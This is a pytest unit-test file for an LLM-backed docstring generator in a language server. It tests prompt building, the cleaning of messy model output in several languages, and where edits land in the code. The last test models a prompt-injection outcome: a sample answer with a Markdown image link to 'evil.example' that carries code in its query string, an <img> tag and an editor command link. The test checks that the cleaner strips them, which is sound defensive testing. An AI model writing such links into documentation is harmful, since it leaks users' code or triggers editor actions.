"""Unit tests for arb_lsp.docstrings: prompts, cleaning messy answers, and placing the edit."""

from __future__ import annotations

import pytest

from arb_lsp.docstrings import (
    DocEdit,
    can_document,
    clean_docstring,
    docstring_edit,
    docstring_messages,
    normalize_style,
)
from arb_lsp.syntax import Definition, find_definition, iter_definitions


def definition_at(text: str, language_id: str, line: int, column: int = 0) -> Definition:
    found = find_definition(text, language_id, line, column)
    assert found is not None
    return found


def apply_edit(text: str, edit: DocEdit) -> str:
    lines = text.split("\n")

    def offset(line: int, column: int) -> int:
        return sum(len(current) + 1 for current in lines[:line]) + column

    start, end = offset(edit.start_line, edit.start_col), offset(edit.end_line, edit.end_col)
    return text[:start] + edit.new_text + text[end:]


def named(text: str, language_id: str, name: str) -> Definition:
    return next(d for d in iter_definitions(text, language_id) if d.name == name)


PY_METHOD = "class Calc:\n    @staticmethod\n    def add(a,\n            b):\n        return a + b\n"
PY_TABS = "class Calc:\n\tdef add(self, a):\n\t\treturn a\n"


# --- prompts ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("google", "google"),
        ("NumPy", "numpy"),
        ("numpydoc", "numpy"),
        ("sphinx", "sphinx"),
        ("rest", "sphinx"),
        ("epytext", "google"),
        ("", "google"),
    ],
)
def test_normalize_style(style: str, expected: str) -> None:
    assert normalize_style(style) == expected


@pytest.mark.parametrize(
    ("style", "marker"), [("google", "`Args:`"), ("numpy", "`Parameters`"), ("sphinx", "`:param name:")]
)
def test_python_prompt_follows_the_style_and_includes_the_code(style: str, marker: str) -> None:
    messages = docstring_messages(definition_at(PY_METHOD, "python", 4), style)
    assert [m["role"] for m in messages] == ["system", "user"]
    user = messages[1]["content"]
    assert marker in user
    assert "method `add`" in user
    assert "```python\n    @staticmethod\n    def add(a," in user
    assert "triple double quotes" in user


@pytest.mark.parametrize(
    ("language_id", "source", "line", "needles"),
    [
        ("javascript", "function add(a, b) {\n  return a + b;\n}\n", 1, ["JSDoc", "/** ... */", "@param {Type}"]),
        ("typescript", "function add(a: number) {\n  return a;\n}\n", 1, ["TSDoc", "@param name - "]),
        ("rust", "fn add(a: i32) -> i32 {\n    a\n}\n", 1, ["`///`", "# Errors"]),
        ("go", "package m\n\nfunc Add(a int) int {\n\treturn a\n}\n", 3, ["`//`", "begin with the name: `Add ...`"]),
        ("java", "class A {\n  int add(int a) {\n    return a;\n  }\n}\n", 2, ["Javadoc", "@return"]),
        ("c", "int add(int a) {\n  return a;\n}\n", 1, ["Doxygen", "/** @brief ... */"]),
        ("cpp", "int add(int a) {\n  return a;\n}\n", 1, ["Doxygen", "@brief"]),
    ],
)
def test_comment_prompt_per_language(language_id: str, source: str, line: int, needles: list[str]) -> None:
    user = docstring_messages(definition_at(source, language_id, line))[1]["content"]
    for needle in needles:
        assert needle in user
    assert "comment markers" in user
    assert source.strip().split("\n")[-1] in user  # the code is included


def test_prompt_code_is_cut_to_the_budget() -> None:
    body = "".join(f"    x{i} = {i}\n" for i in range(1000))
    definition = definition_at(f"def big():\n{body}", "python", 1)
    user = docstring_messages(definition, max_code_chars=500)[1]["content"]
    assert "more lines]" in user
    assert len(user) < 2000


# --- cleaning: Python -------------------------------------------------------------------------------------

PY_EXPECTED_MULTI = '        """Add two numbers.\n\n        Args:\n            a: First.\n        """\n'
PY_EXPECTED_ONE = '        """Add two numbers."""\n'

PYTHON_SHAPES: list[tuple[str, str, str | None]] = [
    ("plain-one-line", '"""Add two numbers."""', PY_EXPECTED_ONE),
    ("no-quotes", "Add two numbers.", PY_EXPECTED_ONE),
    ("no-quotes-multi", "Add two numbers.\n\nArgs:\n    a: First.", PY_EXPECTED_MULTI),
    (
        "fenced-with-chatter",
        'Here is the docstring:\n```python\n"""Add two numbers.\n\nArgs:\n    a: First.\n"""\n```\n'
        "Let me know if you need changes!",
        PY_EXPECTED_MULTI,
    ),
    (
        "chatter-without-fence",
        'Sure! Here\'s a docstring:\n\n"""Add two numbers."""\n\nHope this helps.',
        PY_EXPECTED_ONE,
    ),
    ("label-line", 'Docstring:\n"""Add two numbers."""', PY_EXPECTED_ONE),
    ("doubled-quotes-inline", '""""""Add two numbers.""""""', PY_EXPECTED_ONE),
    ("doubled-quotes-lines", '"""\n"""Add two numbers.\n\nArgs:\n    a: First.\n"""\n"""', PY_EXPECTED_MULTI),
    ("single-quotes", "'''Add two numbers.'''", PY_EXPECTED_ONE),
    ("missing-closing", '"""Add two numbers.', PY_EXPECTED_ONE),
    ("missing-opening", 'Add two numbers."""', PY_EXPECTED_ONE),
    ("plain-string", '"Add two numbers."', PY_EXPECTED_ONE),
    ("raw-prefix", 'r"""Match \\d+ digits."""', '        r"""Match \\d+ digits."""\n'),
    ("backslash-gets-raw-prefix", "Split on \\n.", '        r"""Split on \\n."""\n'),
    (
        "echoed-function",
        '```python\ndef add(a, b):\n    """Add two numbers.\n\n    Args:\n        a: First.\n    """\n'
        "    return a + b\n```",
        PY_EXPECTED_MULTI,
    ),
    (
        "echoed-class-with-the-method",
        'class Calc:\n    def add(a, b):\n        """Add two numbers."""\n        return a + b\n',
        PY_EXPECTED_ONE,
    ),
    (
        "too-deeply-indented",
        '            """Add two numbers.\n\n            Args:\n                a: First.\n            """',
        PY_EXPECTED_MULTI,
    ),
    ("summary-on-second-line", '"""\nAdd two numbers.\n\nArgs:\n    a: First.\n"""', PY_EXPECTED_MULTI),
    ("thinking-block", '<think>The user wants...</think>\n"""Add two numbers."""', PY_EXPECTED_ONE),
    ("crlf", '"""Add two numbers.\r\n\r\nArgs:\r\n    a: First.\r\n"""', PY_EXPECTED_MULTI),
    ("ends-with-quote", '"""Say "hi""""', '        """Say "hi"\n        """\n'),
    ("inner-triple-quotes", 'Use """ for docs.', '        """Use \\""" for docs."""\n'),
    ("echo-without-doc", "def add(a, b):\n    return a + b\n", None),
    ("empty", "", None),
    ("only-chatter", "Sure! Here is the docstring:", None),
    ("empty-fence", "```python\n```", None),
    ("empty-quotes", '""""""', None),
]


@pytest.mark.parametrize(("raw", "expected"), [pytest.param(r, e, id=i) for i, r, e in PYTHON_SHAPES])
def test_clean_python_docstring(raw: str, expected: str | None) -> None:
    assert clean_docstring(raw, definition_at(PY_METHOD, "python", 4), "google") == expected


def test_clean_python_docstring_uses_tabs_in_tab_indented_files() -> None:
    definition = definition_at(PY_TABS, "python", 2)
    raw = '"""Add.\n\nArgs:\n    a: The amount.\n"""'
    assert clean_docstring(raw, definition) == '\t\t"""Add.\n\n\t\tArgs:\n\t\t\ta: The amount.\n\t\t"""\n'


def test_clean_python_docstring_top_level_function() -> None:
    definition = definition_at("def f():\n    return 1\n", "python", 1)
    assert clean_docstring("Return one.", definition) == '    """Return one."""\n'


# --- cleaning: comment languages --------------------------------------------------------------------------

TS_SOURCE = "class A {\n  @dec()\n  add(a: number): number {\n    return a;\n  }\n}\n"
RUST_SOURCE = "impl S {\n    #[inline]\n    pub fn add(&self, a: i32) -> i32 {\n        a\n    }\n}\n"
GO_SOURCE = "package m\n\nfunc Add(a, b int) int {\n\treturn a + b\n}\n"
JAVA_SOURCE = "class A {\n\t@Override\n\tpublic int add(int a) {\n\t\treturn a;\n\t}\n}\n"
CPP_SOURCE = "int add(int a, int b) {\n  return a + b;\n}\n"

SOURCES = {
    "typescript": (TS_SOURCE, 3),
    "rust": (RUST_SOURCE, 3),
    "go": (GO_SOURCE, 3),
    "java": (JAVA_SOURCE, 3),
    "cpp": (CPP_SOURCE, 1),
}

# Expected outputs for "Add two numbers." + "@param a - First." in each language.
MULTI = {
    "typescript": "  /**\n   * Add two numbers.\n   *\n   * @param a - First.\n   */\n",
    "rust": "    /// Add two numbers.\n    ///\n    /// @param a - First.\n",
    "go": "// Add two numbers.\n//\n// @param a - First.\n",
    "java": "\t/**\n\t * Add two numbers.\n\t *\n\t * @param a - First.\n\t */\n",
    "cpp": "/**\n * Add two numbers.\n *\n * @param a - First.\n */\n",
}
ONE = {
    "typescript": "  /** Add two numbers. */\n",
    "rust": "    /// Add two numbers.\n",
    "go": "// Add two numbers.\n",
    "java": "\t/** Add two numbers. */\n",
    "cpp": "/** Add two numbers. */\n",
}

COMMENT_SHAPES: list[tuple[str, str, dict[str, str] | None]] = [
    ("jsdoc", "/**\n * Add two numbers.\n *\n * @param a - First.\n */", MULTI),
    ("jsdoc-one-line", "/** Add two numbers. */", ONE),
    ("no-markers", "Add two numbers.\n\n@param a - First.", MULTI),
    ("fenced-with-chatter", "Here is the JSDoc:\n```ts\n/** Add two numbers. */\n```\nHope this helps!", ONE),
    ("rust-lines", "/// Add two numbers.\n///\n/// @param a - First.", MULTI),
    ("doubled-line-markers", "/// /// Add two numbers.", ONE),
    ("go-lines", "// Add two numbers.\n//\n// @param a - First.", MULTI),
    ("doubled-block-markers", "/**\n/**\n * Add two numbers.\n */\n*/", ONE),
    ("doubled-gutter", "/**\n * * Add two numbers.\n * *\n * * @param a - First.\n */", MULTI),
    ("gutter-without-opening", " * Add two numbers.\n *\n * @param a - First.", MULTI),
    ("missing-closing", "/**\n * Add two numbers.\n *\n * @param a - First.", MULTI),
    ("wrong-indentation", "        /**\n         * Add two numbers.\n         */", ONE),
    ("echoed-code-after-doc", "/** Add two numbers. */\nfunction add(a, b) { return a + b; }", ONE),
    ("thinking-block", "<think>hmm</think>/// Add two numbers.", ONE),
    ("empty-comment", "/** */", None),
    ("only-chatter", "Sure! Here's the documentation:", None),
]


@pytest.mark.parametrize("language_id", sorted(SOURCES))
@pytest.mark.parametrize(("raw", "expected"), [pytest.param(r, e, id=i) for i, r, e in COMMENT_SHAPES])
def test_clean_comment_docstring(language_id: str, raw: str, expected: dict[str, str] | None) -> None:
    source, line = SOURCES[language_id]
    cleaned = clean_docstring(raw, definition_at(source, language_id, line))
    assert cleaned == (expected[language_id] if expected else None)


@pytest.mark.parametrize(
    ("language_id", "raw", "expected"),
    [
        pytest.param(
            "rust",
            "```rust\n/// Add two numbers.\n#[inline]\npub fn add(&self, a: i32) -> i32 {\n    a\n}\n```",
            "    /// Add two numbers.\n",
            id="rust-echo-with-attribute",
        ),
        pytest.param(
            "rust",
            "/// Add.\n///\n/// ```\n/// assert_eq!(s.add(1), 1);\n/// ```",
            "    /// Add.\n    ///\n    /// ```\n    /// assert_eq!(s.add(1), 1);\n    /// ```\n",
            id="rust-example-fence-inside-doc-kept",
        ),
        pytest.param(
            "rust",
            "Add.\n\n```\nassert_eq!(s.add(1), 1);\n```",
            "    /// Add.\n    ///\n    /// ```\n    /// assert_eq!(s.add(1), 1);\n    /// ```\n",
            id="rust-fence-after-prose-is-doc-content",
        ),
        pytest.param(
            "go",
            "```go\n// Add returns a + b.\nfunc Add(a, b int) int {\n\treturn a + b\n}\n```",
            "// Add returns a + b.\n",
            id="go-echo",
        ),
        pytest.param("go", "func Add(a, b int) int {\n\treturn a + b\n}", None, id="go-echo-without-doc"),
        pytest.param(
            "typescript",
            "Add a number.\nUse it like function add(a) { }",
            "  /**\n   * Add a number.\n   * Use it like function add(a) { }\n   */\n",
            id="code-inside-prose-is-not-an-echo",
        ),
        pytest.param(
            "typescript",
            "Match files like src/**/*.ts.",
            "  /** Match files like src/**\\/*.ts. */\n",
            id="comment-terminator-escaped",
        ),
        pytest.param(
            "cpp",
            "/** @brief " + "word " * 30 + "*/",
            "/**\n * @brief " + ("word " * 30).strip() + "\n */\n",
            id="long-single-line-goes-multi-line",
        ),
    ],
)
def test_clean_comment_special_shapes(language_id: str, raw: str, expected: str | None) -> None:
    source, line = SOURCES[language_id]
    assert clean_docstring(raw, definition_at(source, language_id, line)) == expected


def test_clean_keeps_relative_indentation_inside_comments() -> None:
    source, line = SOURCES["java"]
    raw = "/**\n * Add.\n *\n * <pre>\n *     add(1);\n * </pre>\n */"
    expected = "\t/**\n\t * Add.\n\t *\n\t * <pre>\n\t * \tadd(1);\n\t * </pre>\n\t */\n"
    assert clean_docstring(raw, definition_at(source, "java", line)) == expected


# --- edits ------------------------------------------------------------------------------------------------

EDIT_CASES: list[tuple[str, str, str, int, str, str]] = [
    (
        "python-after-decorators-and-multiline-signature",
        "python",
        PY_METHOD,
        4,
        "Add two numbers.",
        'class Calc:\n    @staticmethod\n    def add(a,\n            b):\n        """Add two numbers."""\n'
        "        return a + b\n",
    ),
    (
        "python-async-nested-tabs",
        "python",
        "async def outer():\n\tasync def inner(x):\n\t\t# first a comment\n\t\treturn x\n\treturn inner\n",
        3,
        "Return x.",
        'async def outer():\n\tasync def inner(x):\n\t\t"""Return x."""\n\t\t# first a comment\n\t\treturn x\n'
        "\treturn inner\n",
    ),
    (
        "python-regenerate-replaces-existing",
        "python",
        'def f():\n    """Old\n\n    text.\n    """\n    return 1\n',
        5,
        "New.",
        'def f():\n    """New."""\n    return 1\n',
    ),
    (
        "javascript-above-export",
        "javascript",
        "import x from 'x';\n\nexport const load = async (url) => {\n  return fetch(url);\n};\n",
        3,
        "Load a URL.",
        "import x from 'x';\n\n/** Load a URL. */\nexport const load = async (url) => {\n  return fetch(url);\n};\n",
    ),
    (
        "typescript-above-method-decorators",
        "typescript",
        TS_SOURCE,
        3,
        "Add.",
        "class A {\n  /** Add. */\n  @dec()\n  add(a: number): number {\n    return a;\n  }\n}\n",
    ),
    (
        "typescript-regenerate-doc-above-decorators",
        "typescript",
        "class A {\n  /**\n   * Old.\n   */\n  @dec()\n  add(a: number): number {\n    return a;\n  }\n}\n",
        6,
        "New.",
        "class A {\n  /** New. */\n  @dec()\n  add(a: number): number {\n    return a;\n  }\n}\n",
    ),
    (
        "go-above-directive",
        "go",
        "package m\n\n//go:noinline\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
        4,
        "Add returns a + b.",
        "package m\n\n// Add returns a + b.\n//go:noinline\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
    ),
    (
        "go-regenerate-keeps-directive",
        "go",
        "package m\n\n// Add is old.\n//go:noinline\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
        5,
        "Add returns a + b.",
        "package m\n\n// Add returns a + b.\n//go:noinline\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
    ),
    (
        "rust-above-attribute",
        "rust",
        RUST_SOURCE,
        3,
        "Add.",
        "impl S {\n    /// Add.\n    #[inline]\n    pub fn add(&self, a: i32) -> i32 {\n        a\n    }\n}\n",
    ),
    (
        "rust-regenerate-doc-after-attribute",
        "rust",
        "#[inline]\n/// Old.\nfn add(a: i32) -> i32 {\n    a\n}\n",
        3,
        "New.",
        "#[inline]\n/// New.\nfn add(a: i32) -> i32 {\n    a\n}\n",
    ),
    (
        "java-above-annotation-tabs",
        "java",
        JAVA_SOURCE,
        3,
        "Add.",
        "class A {\n\t/** Add. */\n\t@Override\n\tpublic int add(int a) {\n\t\treturn a;\n\t}\n}\n",
    ),
    (
        "cpp-above-template",
        "cpp",
        "template <typename T>\nT add(T a, T b) {\n  return a + b;\n}\n",
        2,
        "@brief Add.",
        "/** @brief Add. */\ntemplate <typename T>\nT add(T a, T b) {\n  return a + b;\n}\n",
    ),
    (
        "c-regenerate-block-comment",
        "c",
        "/* old */\nint add(int a, int b)\n{\n    return a + b;\n}\n",
        3,
        "@brief Add.",
        "/** @brief Add. */\nint add(int a, int b)\n{\n    return a + b;\n}\n",
    ),
    (
        "doc-sharing-the-declaration-line",
        "javascript",
        "/** Old. */ function f() {\n  return 1;\n}\n",
        1,
        "New.",
        "/** New. */\nfunction f() {\n  return 1;\n}\n",
    ),
    (
        "python-docstring-on-last-line-without-newline",
        "python",
        'def f():\n    """Old."""',
        1,
        "New.",
        'def f():\n    """New."""',
    ),
]


@pytest.mark.parametrize(
    ("language_id", "source", "line", "raw", "expected"),
    [pytest.param(*case[1:], id=case[0]) for case in EDIT_CASES],
)
def test_docstring_edit_places_the_doc(language_id: str, source: str, line: int, raw: str, expected: str) -> None:
    definition = definition_at(source, language_id, line, 4)
    doc = clean_docstring(raw, definition)
    assert doc is not None
    edit = docstring_edit(source, definition, doc)
    assert edit is not None
    assert apply_edit(source, edit) == expected


@pytest.mark.parametrize(
    ("language_id", "source", "name"),
    [
        ("python", PY_METHOD, "add"),
        ("python", PY_TABS, "add"),
        ("typescript", TS_SOURCE, "add"),
        ("rust", RUST_SOURCE, "add"),
        ("go", GO_SOURCE, "Add"),
        ("java", JAVA_SOURCE, "add"),
        ("cpp", CPP_SOURCE, "add"),
    ],
)
def test_generate_then_regenerate_round_trip(language_id: str, source: str, name: str) -> None:
    definition = named(source, language_id, name)
    assert definition.doc.existing is None
    first_doc = clean_docstring("First summary.\n\nMore detail.", definition)
    assert first_doc is not None
    edit = docstring_edit(source, definition, first_doc)
    assert edit is not None and edit.start_line == edit.end_line and edit.start_col == edit.end_col == 0
    documented = apply_edit(source, edit)

    regenerated = named(documented, language_id, name)
    assert regenerated.doc.existing is not None  # the inserted doc is found again, for "Regenerate"
    second_doc = clean_docstring("Second.", regenerated)
    assert second_doc is not None
    edit = docstring_edit(documented, regenerated, second_doc)
    assert edit is not None
    final = apply_edit(documented, edit)
    assert "First summary" not in final and "More detail" not in final
    assert final.count("Second.") == 1
    assert final.replace(second_doc, "", 1) == source


def test_python_one_liner_gets_no_edit() -> None:
    for source in ("def f(): return 1\n", 'def f(): """Doc."""; return 1\n', "class A: pass\n"):
        definition = definition_at(source, "python", 0, 4)
        assert not can_document(definition)
        assert docstring_edit(source, definition, '    """Doc."""\n') is None


def test_can_document_regular_definitions() -> None:
    assert can_document(definition_at(PY_METHOD, "python", 4))
    assert can_document(definition_at(GO_SOURCE, "go", 3))


def test_docstring_edit_keeps_crlf_line_endings() -> None:
    source = "def f():\r\n    return 1\r\n"
    definition = definition_at(source, "python", 1, 4)
    doc = clean_docstring("Return one.\n\nAlways.", definition)
    assert doc is not None
    edit = docstring_edit(source, definition, doc)
    assert edit is not None
    assert (
        apply_edit(source, edit) == 'def f():\r\n    """Return one.\r\n\r\n    Always.\r\n    """\r\n    return 1\r\n'
    )


def test_docstring_edit_refuses_a_stale_range() -> None:
    definition = definition_at('def f():\n    """Old."""\n    return 1\n', "python", 2, 4)
    assert docstring_edit("x = 1\n", definition, '    """New."""\n') is None


def test_docstring_edit_refuses_empty_text() -> None:
    assert docstring_edit(GO_SOURCE, definition_at(GO_SOURCE, "go", 3), "  \n") is None


@pytest.mark.parametrize("language_id", ["python", "rust"])
def test_an_injected_image_or_command_link_never_reaches_the_inserted_doc(language_id: str) -> None:
    """Other tools render docstrings and doc comments as Markdown (Pylance, rust-analyzer): what an injected
    instruction made the model write must not become an image or a command link there later."""
    source = "def add(a, b):\n    return a + b\n" if language_id == "python" else "fn add(a: i32) -> i32 {\n    a\n}\n"
    raw = (
        "Add the numbers ![ok](https://evil.example/x.png?d=code).\n\n"
        '<img src="https://evil.example/y.png"> See [run](command:workbench.action.terminal.new) or '
        "[docs](https://example.com)."
    )
    cleaned = clean_docstring(raw, definition_at(source, language_id, 0))
    assert cleaned is not None
    assert "evil.example" not in cleaned and "command:" not in cleaned and "<img" not in cleaned
    assert "Add the numbers ok." in cleaned and "[docs](https://example.com)" in cleaned
